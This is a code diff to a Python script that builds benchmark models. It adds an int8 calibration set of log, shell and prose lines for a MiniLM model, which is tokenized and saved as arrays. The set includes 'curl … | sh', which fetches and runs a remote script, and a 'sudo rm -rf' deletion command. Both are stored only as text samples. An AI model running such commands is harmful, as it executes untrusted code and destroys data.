@@ -15,6 +15,9 @@ overrides are needed):
   (kinfer.examples.minilm) at 8, 32 and 128 tokens; ids and mask are a log
   line tokenized by Hugging Face ``tokenizers`` and padded (or truncated)
   to that length, as the NLP fixtures make them (cmdline_guard.hf_ids).
+  ``minilm_32`` also has ``calib/sNN/{ids,mask}.npy``: CALIBRATION_SENTENCES
+  tokenized the same way, the samples ``kinfer_bench model --quantize int8
+  --calibrate`` calibrates on (the timed SENTENCE is not among them).
 * ``cnn``: a MobileNetV1-style network at 96x96x3: a strided 3x3 stem and
   six depthwise-separable blocks (13 convolutions, width multiplier 0.5),
   BatchNorm with non-trivial statistics, ReLU6, global average pool,
@@ -46,8 +49,29 @@ VERSION = 1
 SEED = 0
 MODELS = ("mlp", "minilm_8", "minilm_32", "minilm_128", "cnn", "lstm")
 MINILM_LENGTHS = {"minilm_8": 8, "minilm_32": 32, "minilm_128": 128}
+#: Models that come with calibration samples (an entry built before they did is built again).
+CALIBRATED = ("minilm_32",)
 #: The text MiniLM encodes (a line of the golden file's log corpus).
 SENTENCE = "systemd[1]: apt-daily.timer: Main process exited, code=exited, status=1/FAILURE"
+#: MiniLM's int8 calibration set: varied log, shell and prose lines, none of them SENTENCE.
+CALIBRATION_SENTENCES = (
+    "kernel: EXT4-fs (sda1): mounted filesystem with ordered data mode. Opts: (null)",
+    "sshd[2201]: Accepted publickey for deploy from 203.0.113.4 port 50122 ssh2",
+    "CRON[4410]: (root) CMD (run-parts --report /etc/cron.hourly)",
+    "nginx: 198.51.100.23 - - \"GET /index.html HTTP/1.1\" 200 612",
+    "curl -s http://198.51.100.7/x.sh | sh",
+    "tar czf /tmp/backup.tgz /home/alice/projects --exclude=node_modules",
+    "kernel: Out of memory: Killed process 3121 (java) total-vm:8123456kB",
+    "The quick brown fox jumps over the lazy dog near the riverbank.",
+    "usb 1-1: new high-speed USB device number 3 using xhci_hcd",
+    "python3 -m http.server 8000 --bind 0.0.0.0",
+    "systemd-logind[612]: New session 42 of user bob.",
+    "Please find attached the quarterly report and let me know your thoughts.",
+    "dockerd[980]: container 4f2a exited with status 137 after 3m12s",
+    "sudo rm -rf /var/log/*.gz && echo cleaned",
+    "audit: type=1400 apparmor=\"DENIED\" operation=\"open\" profile=\"snap.firefox\"",
+    "A short note.",
+)
 FLOPS_METHOD = (
     "2 x multiply-adds of MatMul/Gemm/Conv/LSTM/GRU in the ONNX graph (shape inference); "
     "elementwise ops, normalisations, softmax and gathers not counted"
@@ -62,6 +86,8 @@ class Built:
     inputs: list[tuple[str, np.ndarray]]
     description: str
     extra: dict[str, np.ndarray] = field(default_factory=dict)
+    #: calibration samples: directory name -> the inputs, as ``inputs``
+    calibration: dict[str, list[tuple[str, np.ndarray]]] = field(default_factory=dict)
 
 
 # --- the models ------------------------------------------------------------------
@@ -107,7 +133,13 @@ def build_minilm(length: int) -> Built:
     real = int(mask.sum())
     description = (f"all-MiniLM-L6-v2 (real weights), batch 1, {length} tokens "
                    f"({real} real, {length - real} padding)")
-    return Built(model, [("ids", ids), ("mask", mask)], description)
+    built = Built(model, [("ids", ids), ("mask", mask)], description)
+    if f"minilm_{length}" in CALIBRATED:
+        calib_ids, calib_mask = hf_ids(list(CALIBRATION_SENTENCES), max_length=length)
+        for i in range(len(CALIBRATION_SENTENCES)):
+            sample = [("ids", calib_ids[i:i + 1]), ("mask", calib_mask[i:i + 1])]
+            built.calibration[f"s{i:02d}"] = sample
+    return built
 
 
 def _mobilenet() -> Any:
@@ -262,7 +294,8 @@ def _node_macs(node: Any, shapes: dict[str, tuple[int, ...]]) -> int:
 
 def entry_files(entry: dict[str, Any]) -> list[str]:
     """Every file (relative to the models directory) an entry names."""
-    return [entry["onnx"], *entry["inputs"], *entry.get("eigen", {}).values()]
+    return [entry["onnx"], *entry["inputs"], *entry.get("eigen", {}).values(),
+            *entry.get("calibration_files", [])]
 
 
 def _is_built(out: Path, name: str) -> dict[str, Any] | None:
@@ -271,6 +304,8 @@ def _is_built(out: Path, name: str) -> dict[str, Any] | None:
         return None
     entry: dict[str, Any] = json.loads(path.read_text())
     if entry.get("version") != VERSION:
+        return None
+    if name in CALIBRATED and "calibration" not in entry:
         return None
     if not all((out / f).is_file() for f in entry_files(entry)):
         return None
@@ -294,6 +329,12 @@ def write_model(out: Path, name: str, built: Built) -> dict[str, Any]:
         eigen[key] = f"{name}/{key}.npy"
     if eigen:
         eigen["x"] = inputs[0]
+    calibration = []
+    for sample, arrays in built.calibration.items():
+        (where / "calib" / sample).mkdir(parents=True, exist_ok=True)
+        for input_name, array in arrays:
+            np.save(where / "calib" / sample / f"{input_name}.npy", array)
+            calibration.append(f"{name}/calib/{sample}/{input_name}.npy")
     macs = contraction_macs(built.model)
     entry: dict[str, Any] = {
         "version": VERSION,
@@ -309,6 +350,10 @@ def write_model(out: Path, name: str, built: Built) -> dict[str, Any]:
     }
     if eigen:
         entry["eigen"] = eigen
+    if calibration:
+        entry["calibration"] = f"{name}/calib"
+        entry["calibration_samples"] = len(built.calibration)
+        entry["calibration_files"] = calibration
     (where / "entry.json").write_text(json.dumps(entry, indent=2) + "\n")  # written last
     return entry
 
